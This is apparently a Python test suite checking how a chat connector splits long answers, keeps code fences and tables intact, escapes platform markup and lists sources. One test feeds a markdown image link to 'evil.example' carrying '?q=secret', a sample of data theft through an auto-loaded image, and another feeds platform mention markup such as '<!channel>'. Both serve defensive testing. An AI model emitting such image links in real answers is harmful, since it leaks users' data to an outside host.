"""What arrives is what was written: within the limit, in order, balanced, and without anything that loads by itself."""

from pathlib import Path

from connectors.answering import Source
from connectors.testing.conformance.base import Suite, words

SENTENCES = " ".join(f"Sentence number {number} says something of its own, and ends here." for number in range(400))
CODE = "```python\n" + "\n".join(f"line_{number} = {number}  # <b> & `tick`" for number in range(400)) + "\n```"
TABLE = "| name | value |\n|---|---|\n" + "\n".join(f"| row{number} | {number * 7} |" for number in range(900))


class Texts(Suite):
    """Bugs 5 (splits that break fences, or are too long) and 6 (markup that is refused)."""

    async def test_a_long_answer_comes_in_parts_with_nothing_lost(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path, live_s=2.0) as stage:
            stage.assistant.replies = [SENTENCES]
            shown = await stage.ask("all of it")
            card = await self.card(stage.fake)
            assert len(shown) > 1
            assert max(card.dialect.length(each.text) for each in shown) <= card.dialect.limit
            assert words(" ".join(each.text for each in shown)) == words(SENTENCES)

    async def test_code_is_closed_and_opened_again_between_parts(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path, live_s=2.0) as stage:
            stage.assistant.replies = [f"Before.\n\n{CODE}\n\nAfter."]
            shown = await stage.ask("code")
            assert len(shown) > 1 or (await self.card(stage.fake)).dialect.limit > len(CODE)
            for each in shown:
                assert each.text.count("<pre>") == each.text.count("</pre>")
                assert each.text.count("```") % 2 == 0
            found = [word for each in shown for word in words(each.text) if word.startswith("line_")]
            assert found == [f"line_{number}" for number in range(400)]

    async def test_a_table_keeps_its_rows_and_its_header(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path, live_s=2.0) as stage:
            stage.assistant.replies = [TABLE]
            shown = await stage.ask("table")
            assert len(shown) > 1 or (await self.card(stage.fake)).dialect.limit > len(TABLE)
            assert all("name" in each.text and "value" in each.text for each in shown)
            found = [word for each in shown for word in words(each.text) if word.startswith("row")]
            assert found == [f"row{number}" for number in range(900)]

    async def test_letters_outside_the_basic_plane_are_counted_and_kept_whole(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path, live_s=2.0) as stage:
            stage.assistant.replies = ["😀" * 5000]
            shown = await stage.ask("smile")
            assert sum(each.text.count("😀") for each in shown) == 5000

    async def test_no_picture_of_the_model_is_loaded(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path) as stage:
            stage.assistant.replies = [
                "![your data](http://evil.example/p.png?q=secret)\n\n<img src='http://evil.example/i'>"
            ]
            (shown,) = await stage.ask("picture")
            assert "your data" in shown.text
            assert not any("evil.example/p.png" in text for text in stage.fake.texts)

    async def test_markup_that_looks_like_the_platforms_own_stays_text(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path) as stage:
            stage.assistant.replies = [r"a < b & c > d \*not bold\* <!channel> <@U1> </b> `x<y`"]
            (shown,) = await stage.ask("hostile")
            assert "<!channel>" not in shown.text.replace(r"\<", "")
            assert "<@U1>" not in shown.text.replace(r"\<", "").replace(r"\@", "")

    async def test_an_empty_answer_is_still_an_answer(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path) as stage:
            stage.assistant.replies = [""]
            (shown,) = await stage.ask("nothing")
            assert shown.text.strip()

    async def test_sources_stand_under_the_answer(self, tmp_path: Path) -> None:
        async with self.stage(tmp_path) as stage:
            stage.assistant.sources = (
                Source(1, "Opening hours", 3),
                Source(1, "Opening hours", 3),
                Source(2, "Prices"),
            )
            stage.assistant.replies = ["At six [1]. It is free [2]."]
            (shown,) = await stage.ask("when?")
            assert words(shown.text).count("hours") == 1
            assert words(shown.text)[-8:] == ["Sources", "1", "Opening", "hours", "p", "3", "2", "Prices"]
